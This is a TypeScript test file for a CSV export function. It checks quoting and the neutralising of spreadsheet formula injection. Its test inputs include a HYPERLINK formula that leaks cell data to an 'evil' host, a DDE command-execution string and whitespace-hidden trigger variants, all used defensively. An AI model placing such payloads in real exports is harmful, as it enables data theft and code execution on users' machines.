import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { toCsv } from '../../../src/report/to-csv.js';

/** Parses our CSV back, so assertions are about cell values rather than quoting details. */
function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { newline: '\r\n' }).data;
}

describe('toCsv', () => {
  test('when rows are plain then the header and rows follow the given column order, CRLF ended', () => {
    const csv = toCsv([{ b: 2, a: 'x', extra: 'dropped' }, { a: 'y' }], ['a', 'b']);
    expect(csv).toBe('a,b\r\nx,2\r\ny,\r\n');
  });

  test('when there are no rows then only the header is written', () => {
    expect(toCsv([], ['user', 'hits'])).toBe('user,hits\r\n');
  });

  test('when cells hold commas, quotes and newlines then they are quoted per RFC 4180', () => {
    const csv = toCsv([{ a: 'x,y', b: 'say "hi"', c: 'two\nlines' }], ['a', 'b', 'c']);
    expect(csv).toBe('a,b,c\r\n"x,y","say ""hi""","two\nlines"\r\n');
  });

  test('when a cell starts with a formula trigger then it is prefixed with a quote mark', () => {
    const nasty = [
      '=HYPERLINK("http://evil/?x="&A1,"click")',
      '+1+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\u0000=1',
    ];
    const rows = nasty.map((v) => ({ v }));
    const parsed = cells(toCsv(rows, ['v'])).slice(1).map((line) => line[0]);
    expect(parsed).toEqual(nasty.map((v) => `'${v}`));
  });

  test('when the trigger hides behind spaces, NBSP or a BOM then the cell is still neutralised', () => {
    const nasty = [' =cmd', '   +1', '\u00a0=cmd', '\u00a0\u00a0@x', '\ufeff=cmd', '\u3000-1'];
    const parsed = cells(toCsv(nasty.map((v) => ({ v })), ['v'])).slice(1).map((line) => line[0]);
    expect(parsed).toEqual(nasty.map((v) => `'${v}`));
  });

  test('when a later line of a multi-line cell starts with a trigger then the cell is neutralised', () => {
    const nasty = ['safe\n=cmd', 'safe\r\n+cmd', 'safe\n  @cmd', '=1+1\nsafe'];
    const parsed = cells(toCsv(nasty.map((v) => ({ v })), ['v'])).slice(1).map((line) => line[0]);
    expect(parsed).toEqual(nasty.map((v) => `'${v}`));
  });

  test('when cells are harmless text or numbers then they are written unchanged', () => {
    const csv = toCsv(
      [{ s: 'a=b', n: -5, f: 1.5, z: 0, e: 'mail@contoso.com', m: 'x-y', nul: null }],
      ['s', 'n', 'f', 'z', 'e', 'm', 'nul'],
    );
    expect(csv).toBe('s,n,f,z,e,m,nul\r\na=b,-5,1.5,0,mail@contoso.com,x-y,\r\n');
  });

  test('when a cell is a blob then it is written as hex', () => {
    expect(toCsv([{ b: Buffer.from([0xde, 0xad]) }], ['b'])).toBe('b\r\ndead\r\n');
  });
});
